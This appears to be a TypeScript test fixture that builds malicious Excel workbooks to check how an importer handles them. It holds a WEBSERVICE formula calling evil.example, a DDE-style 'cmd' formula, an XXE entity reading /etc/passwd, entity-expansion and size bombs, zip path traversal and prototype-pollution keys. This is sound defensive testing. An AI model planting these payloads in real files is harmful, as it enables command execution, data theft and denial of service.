import { strToU8, zipSync } from 'fflate';
import { changeWorkbook, createSheet, getEarliestZipTime, type WorkbookCell } from '../support/create-workbook.ts';
import type { HostileCase } from './hostile-texts.ts';
import type { Outcome } from './hostile-values.ts';

const HEADINGS = ['出典ID', '資料名'];
const createBook = (...rows: readonly (readonly WorkbookCell[])[]) => createSheet(HEADINGS, ...rows);
const whole = createBook(['a', '市']);
const SHEET = 'xl/worksheets/sheet1.xml';
const STYLES = 'xl/styles.xml';
const STRINGS = 'xl/sharedStrings.xml';

/** Returns a workbook with a part changed. */
const changeBook = (path: string, change: (xml: string) => string) => changeWorkbook(whole, path, change);

const describeBook = (kind: string, outcome: Outcome, name: string, content: Uint8Array): HostileCase<Uint8Array> => ({
  kind,
  outcome,
  name,
  content,
});
const ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>';

/** Excel files that attack the program that opens them. */
export const hostileWorkbooks: readonly HostileCase<Uint8Array>[] = [
  describeBook(
    'XLSX formula',
    'formula-cell',
    'a formula',
    createBook(['a', { formula: 'WEBSERVICE("https://evil.example")', result: 1 }]),
  ),
  describeBook(
    'XLSX formula',
    'error-cell',
    'a formula without a result',
    createBook(['a', { formula: 'cmd|x!A0', result: null }]),
  ),
  describeBook('XLSX formula', 'formula-like', 'a text like a formula', createBook(['a', '=1+1'])),
  describeBook('XLSX text', 'html-in-cell', 'markup', createBook(['a', '<script>x</script>'])),
  describeBook(
    'XLSX text',
    'text',
    'a prototype name',
    createBook(['a', '__proto__'], ['b', 'constructor'], ['c', 'toString']),
  ),
  describeBook('XLSX text', 'over-limit', 'a long text', createBook(['a', '市'.repeat(32_768)])),
  describeBook('XLSX text', 'bad-slug', 'a prototype name as id', createBook(['__proto__', '市'])),
  describeBook(
    'XLSX entity',
    'damaged-workbook',
    'an entity that is never used',
    changeBook(STRINGS, (xml) => xml.replace('?>', `?>${ENTITIES}`)),
  ),
  describeBook(
    'XLSX entity',
    'text',
    'an external entity',
    changeBook(STRINGS, (xml) => xml.replace('?>', '?><!DOCTYPE x SYSTEM "file:///etc/passwd">')),
  ),
  describeBook(
    'XLSX link',
    'text',
    'a link to another workbook',
    changeBook(SHEET, (xml) =>
      xml.replace('</worksheet>', '<hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks></worksheet>'),
    ),
  ),
  describeBook(
    'XLSX format',
    'unsure-format',
    'a long format',
    createBook(['a', { number: 1, format: '[$'.repeat(2000) }]),
  ),
  describeBook(
    'XLSX format',
    'large-workbook',
    'formats without end',
    changeBook(STYLES, (xml) => xml.replace('</cellXfs>', `${'<xf numFmtId="0"/>'.repeat(66_000)}</cellXfs>`)),
  ),
  describeBook(
    'XLSX reference',
    'damaged-workbook',
    'a cell without a reference',
    changeBook(SHEET, (xml) => xml.replace('r="A2"', 'r="__proto__"')),
  ),
  describeBook(
    'XLSX reference',
    'large-workbook',
    'a far cell',
    changeBook(SHEET, (xml) =>
      xml.replaceAll(/r="A?2"/g, (r) => r.replace('2', '1048576')).replace('B2', 'XFD1048576'),
    ),
  ),
  describeBook(
    'XLSX reference',
    'large-workbook',
    'a far row',
    changeBook(SHEET, (xml) =>
      xml
        .replace('<row r="2"', '<row r="99999999"')
        .replace('r="A2"', 'r="A9999999"')
        .replace('r="B2"', 'r="B9999999"'),
    ),
  ),
  describeBook(
    'XLSX bomb',
    'large-workbook',
    'a sheet of spaces',
    changeBook(SHEET, (xml) => xml + ' '.repeat(130 * 1024 * 1024)),
  ),
  describeBook(
    'XLSX part',
    'damaged-workbook',
    'a sheet that is no XML',
    changeBook(SHEET, () => '<worksheet'),
  ),
  describeBook(
    'XLSX part',
    'damaged-workbook',
    'an empty sheet',
    changeBook(SHEET, () => ''),
  ),
  describeBook(
    'XLSX part',
    'unknown-sheet',
    'no workbook',
    changeBook('xl/workbook.xml', () => '<workbook/>'),
  ),
  describeBook(
    'XLSX part',
    'unknown-sheet',
    'a way out of the archive',
    changeBook('xl/_rels/workbook.xml.rels', () => '<Relationships/>'),
  ),
  describeBook(
    'XLSX part',
    'merged-cells',
    'merged cells without a reference',
    changeBook(SHEET, (xml) =>
      xml.replace('</sheetData>', '</sheetData><mergeCells><mergeCell ref="A2:B2"/></mergeCells>'),
    ),
  ),
  describeBook('XLSX archive', 'damaged-workbook', 'the first half', whole.slice(0, whole.length / 2)),
  describeBook('XLSX archive', 'damaged-workbook', 'the signature alone', whole.slice(0, 4)),
  describeBook(
    'XLSX archive',
    'damaged-workbook',
    'zeros after the signature',
    Uint8Array.from(whole, (byte, at) => (at < 4 ? byte : 0)),
  ),
  describeBook(
    'XLSX archive',
    'damaged-workbook',
    'an archive of other files',
    zipSync({ '../../a': strToU8('x'), __proto__: strToU8('x') }, { mtime: getEarliestZipTime() }),
  ),
  describeBook(
    'XLSX archive',
    'old-workbook',
    'an old workbook',
    Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1),
  ),
];
